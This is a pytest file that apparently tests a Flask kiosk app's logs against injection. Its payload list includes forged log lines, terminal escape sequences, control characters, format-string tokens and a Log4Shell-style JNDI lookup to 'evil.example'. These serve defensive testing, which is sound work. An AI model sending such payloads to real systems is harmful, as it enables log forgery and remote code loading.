"""What somebody sends cannot write into the log: no line, no field, no escape for a terminal."""

import json
import logging
from collections.abc import Iterator

import pytest
from flask.testing import FlaskClient

from kiosk.core import logs
from tests.web.conftest import Hall, submit

FORGED = '{"event":"log_in","instructor":1}'
NASTY = (
    f"x\n{FORGED}",
    f"x\r\n{FORGED}\r\n",
    "x\n2026-01-01T00:00:00.000Z INFO log_in instructor=1",
    "\x1b[2J\x1b[1;31mred\x1b]0;title\x07",
    "\x9b31m",
    "x\x00y\x08\x08\x7f",
    "x\u2028y\u2029z\u0085",
    '","event":"log_in","x":"',
    "%s %d %(name)s {0} ${jndi:ldap://evil.example/a}",
    "\u202egnol si siht",
)


@pytest.fixture(autouse=True)
def _every_page_is_valid() -> None:
    """Said of these pages by other tests."""


@pytest.fixture(params=["json", "text"])
def form(request: pytest.FixtureRequest) -> Iterator[str]:
    root, level = logging.getLogger(), logs.LOGGER.level
    before = list(root.handlers)
    logs.configure(request.param)
    yield request.param
    root.handlers[:] = before
    logs.LOGGER.setLevel(level)


def assert_plain(text: str) -> list[str]:
    """Lines of printable ASCII, and nothing else that a terminal or a reader would take for one."""
    lines = text.split("\n")
    assert lines.pop() == ""
    assert all(line.isascii() and line.isprintable() for line in lines)
    return lines


@pytest.mark.parametrize("nasty", NASTY)
def test_no_value_begins_a_line_or_reaches_a_terminal(
    form: str, capsys: pytest.CaptureFixture[str], nasty: str
) -> None:
    """Not even where a caller would hand over what was typed."""
    logs.log("export", {"of": nasty, nasty: "x", "last": 1})
    [line] = assert_plain(capsys.readouterr().err)
    if form == "json":
        told = json.loads(line)
        assert told["event"] == "export"
        assert told["of"] == nasty
        assert set(told) == {"time", "level", "event", "of", nasty, "last"}
    else:
        assert line.split(" ")[2] == "export"
        assert line.endswith(" last=1")
        assert " instructor=1" not in line.replace(json.dumps(nasty)[1:-1], "")


def test_nothing_that_is_sent_stands_in_the_log(
    hall: Hall, form: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Typed, in the address, in a header, in a cookie: each request leaves its own lines, and no other."""
    console = hall.new_phone()
    hall.log_in(console)
    for nasty in NASTY:
        send_everywhere(hall, console, nasty)
    lines = assert_plain(capsys.readouterr().err)
    events = [json.loads(line)["event"] if form == "json" else line.split(" ")[2] for line in lines]
    assert set(events) == {"refusal", "denied", "log_in_failed", "log_in", "correction"}
    assert events.count("log_in") == 1
    assert events.count("log_in_failed") == events.count("correction") == len(NASTY)
    for trace in ("evil.example", "gnol", "title", "2026-01-01", '\\"instructor'):
        assert not any(trace in line for line in lines), trace


def send_everywhere(hall: Hall, console: FlaskClient, nasty: str) -> None:
    """With a new phone, and once to the console."""
    phone = hall.new_phone()
    header = "".join(each for each in nasty if each.isprintable() and each.isascii()) or "x"
    phone.environ_base |= {
        "HTTP_USER_AGENT": header,
        "HTTP_REFERER": f"http://localhost/{header}",
        "HTTP_X_REQUEST_ID": header,
        "HTTP_X_FORWARDED_FOR": header,
    }
    phone.set_cookie("kiosk-phone", header.replace(";", ""))
    for path in (f"/s/{nasty}", f"/{nasty}", f"/receipt/{nasty}", f"/console/set-up/{nasty}"):
        phone.get("/", environ_overrides={"PATH_INFO": path.encode().decode("latin-1")})
    phone.get("/", query_string={"lang": nasty, nasty: nasty})
    hall.log_in(phone, email=nasty, password=nasty)
    submit(phone, hall.scan(phone), student_number=nasty, family_name=nasty)
    correction = f"/console/sessions/{hall.class_session.id}/people/1"
    submit(console, console.get(correction), correction, status="absent", reason=f"{nasty} {len(nasty)}")
